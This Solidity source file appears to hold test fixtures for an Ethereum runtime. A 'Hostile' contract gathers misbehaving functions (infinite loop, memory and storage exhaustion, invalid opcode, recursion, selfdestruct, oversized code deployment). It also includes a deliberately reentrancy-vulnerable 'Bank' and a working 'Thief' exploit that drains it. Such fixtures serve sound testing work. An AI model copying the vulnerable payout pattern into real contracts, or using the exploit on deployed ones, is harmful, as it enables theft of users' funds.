// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// What a contract should not do, each as a function.
contract Hostile {
    uint256 public mark;
    mapping(uint256 => uint256) public junk;

    event Note(uint256 indexed number, bytes data);

    constructor() payable {}

    receive() external payable {}

    function loop() external {
        mark = 1;
        for (uint256 i = 0; ; i++) {
            mark = i;
        }
    }

    function allocate(uint256 words) external {
        mark = 2;
        uint256[] memory a = new uint256[](words);
        a[words - 1] = 1;
        mark = a[words - 1];
    }

    function fill(uint256 n) external {
        for (uint256 i = 1; i <= n; i++) {
            junk[i] = i;
        }
    }

    function refuse(string calldata why) external {
        mark = 3;
        emit Note(3, bytes(why));
        revert(why);
    }

    function invalid() external {
        mark = 4;
        assembly {
            invalid()
        }
    }

    function recurse(uint256 depth) external {
        mark = depth;
        this.recurse(depth + 1);
    }

    function shout(uint256 size) external {
        emit Note(size, new bytes(size));
    }

    function destroy(address payable heir) external {
        mark = 5;
        selfdestruct(heir);
    }

    /// Makes a contract that destroys itself before the transaction ends.
    function spark(address payable heir) external payable {
        new Spark{value: msg.value}(heir);
    }

    /// Deploys code of a size.
    function big(uint256 size) external {
        mark = 6;
        assembly {
            // PUSH3 size PUSH1 0 RETURN
            let code := mload(0x40)
            mstore8(code, 0x62)
            mstore8(add(code, 1), shr(16, size))
            mstore8(add(code, 2), shr(8, size))
            mstore8(add(code, 3), size)
            mstore8(add(code, 4), 0x60)
            mstore8(add(code, 5), 0x00)
            mstore8(add(code, 6), 0xf3)
            if iszero(create(0, code, 7)) {
                revert(0, 0)
            }
        }
    }

    function chain() external view returns (uint256, uint256, uint256, bytes32, uint256, address) {
        return (block.chainid, block.number, block.timestamp, blockhash(block.number - 1), block.prevrandao, block.coinbase);
    }
}

contract Spark {
    constructor(address payable heir) payable {
        selfdestruct(heir);
    }
}

/// A bank with the oldest bug.
contract Bank {
    mapping(address => uint256) public balance;

    function put() external payable {
        balance[msg.sender] += msg.value;
    }

    function take() external {
        (bool ok, ) = msg.sender.call{value: balance[msg.sender]}("");
        require(ok, "no payment");
        balance[msg.sender] = 0;
    }
}

contract Thief {
    address private _bank;
    uint256 private _again;

    function rob(address bank, uint256 times) external payable {
        _bank = bank;
        _again = times;
        Bank(bank).put{value: msg.value}();
        Bank(bank).take();
    }

    receive() external payable {
        if (_again > 0) {
            _again--;
            Bank(_bank).take();
        }
    }
}
